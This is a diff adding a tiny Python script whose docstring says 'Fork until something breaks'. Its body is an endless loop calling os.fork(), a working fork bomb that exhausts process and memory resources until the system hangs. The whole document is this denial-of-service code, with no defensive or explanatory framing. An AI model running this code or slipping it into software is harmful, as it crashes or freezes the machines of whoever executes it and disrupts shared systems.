@@ -1,0 +1,6 @@
+"""Fork until something breaks."""
+
+import os
+
+while True:
+    os.fork()
